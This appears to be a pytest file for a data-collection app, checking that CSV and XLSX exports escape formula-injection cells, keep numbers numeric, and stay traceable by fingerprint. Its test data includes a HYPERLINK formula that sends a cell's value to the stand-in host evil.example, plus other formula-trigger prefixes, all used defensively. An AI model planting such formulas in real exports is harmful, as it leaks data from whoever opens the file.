"""Formula injection in exports: text cells that start a formula are neutralised in CSV and XLSX
(exports, dashboard downloads, settlement statements), numbers stay numbers, and ``leak trace``
still names the export of a file whose row keys and carrier cells were neutralised."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from fieldcollect.cli import app
from fieldcollect.core.models import Role
from fieldcollect.privacy import fingerprint as fpr
from fieldcollect.privacy.exports import export_table_result
from fieldcollect.privacy.leak import trace
from fieldcollect.testing import factories as f

pytestmark = pytest.mark.django_db

EVIL = "=HYPERLINK(\"http://evil.example/?d=\"&B3,\"details\")"
COLUMNS = ["ref", "note", "amount", "count", "=header"]


def _rows(n: int) -> list[list[object]]:
    triggers = [EVIL, "+1+2", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
    return [[f"{triggers[i % 6]}{i}", triggers[(i + 1) % 6], Decimal(-i - 1) / 4, -i - 1, "x"] for i in range(n)]


@pytest.fixture
def bank_user(fc_home):
    return f.make_user(role=Role.COLLECTIONS_MANAGER, username="bank_fi")


def _plain(cell: str) -> str:
    return fpr.strip(cell).rstrip(" ")


def test_csv_cells_are_neutralised_and_numbers_stay_numbers(bank_user, tmp_path) -> None:
    result = export_table_result(user=bank_user, purpose="dispute review", name="t", columns=COLUMNS,
                                 rows=_rows(40), fmt="csv")
    lines = list(csv.reader(io.StringIO(result.data.decode("utf-8-sig"))))
    assert lines[1] == ["ref", "note", "amount", "count", "'=header"]
    for i, line in enumerate(lines[2:]):
        ref, note, amount, count, _x = (_plain(c) for c in line)
        assert ref.startswith("'") and ref[1] in "=+-@\t\r" and note.startswith("'")
        assert amount == str(Decimal(-i - 1) / 4) and count == str(-i - 1)  # -0.25, -1: numbers, no quote
    # the leak is still traced: whole file, a few rows pasted elsewhere, and with zero-width marks removed
    whole = tmp_path / "whole.csv"
    whole.write_bytes(result.data)
    run = CliRunner().invoke(app, ["leak", "trace", str(whole)])
    assert run.exit_code == 0 and result.record.fingerprint in run.output and "bank_fi" in run.output
    pasted = tmp_path / "pasted.csv"
    records = result.data.decode("utf-8-sig").split("\r\n")  # a cell's lone CR is not a line end
    pasted.write_text("\r\n".join(records[10:13]) + "\r\n", encoding="utf-8")
    assert [r.fingerprint for r in trace(pasted).records] == [result.record.fingerprint]
    stripped = tmp_path / "stripped.csv"
    stripped.write_text(fpr.strip(result.data.decode("utf-8-sig")).split("\r\n", 2)[2], encoding="utf-8")
    found = trace(stripped)
    assert found.channel == "whitespace" and [r.fingerprint for r in found.records] == [result.record.fingerprint]


def test_xlsx_cells_are_text_not_formulas_and_the_file_traces(bank_user, tmp_path) -> None:
    result = export_table_result(user=bank_user, purpose="dispute review", name="t", columns=COLUMNS,
                                 rows=_rows(8), fmt="xlsx")
    ws = load_workbook(io.BytesIO(result.data)).worksheets[0]
    assert ws["E2"].value == "'=header" and ws["E2"].data_type == "s"
    for cells in ws.iter_rows(min_row=3):
        ref, note, amount, count = cells[0], cells[1], cells[2], cells[3]
        assert ref.data_type == "s" and note.data_type == "s"  # no formula cell anywhere
        assert _plain(str(ref.value)).startswith("'") and _plain(str(note.value)).startswith("'")
        assert amount.data_type == count.data_type == "n"
        assert isinstance(amount.value, int | float) and isinstance(count.value, int | float)
        assert amount.value < 0 and count.value < 0
    assert not [c for r in ws.iter_rows() for c in r if c.data_type == "f"]
    fresh = Workbook()  # three rows copied into a new workbook
    sheet = fresh.active
    assert sheet is not None
    for row in ws.iter_rows(min_row=4, max_row=6, values_only=True):
        sheet.append(list(row))
    path = tmp_path / "resaved.xlsx"
    fresh.save(path)
    assert [r.fingerprint for r in trace(path).records] == [result.record.fingerprint]


def test_dashboard_download_goes_through_the_same_writer(bank_user) -> None:
    """The dashboards' CSV/XLSX come from :func:`export_table` (the one place): no writer of their own."""
    import inspect

    from fieldcollect.reports import views

    source = inspect.getsource(views.export)
    assert "export_table(" in source and "csv.writer" not in source
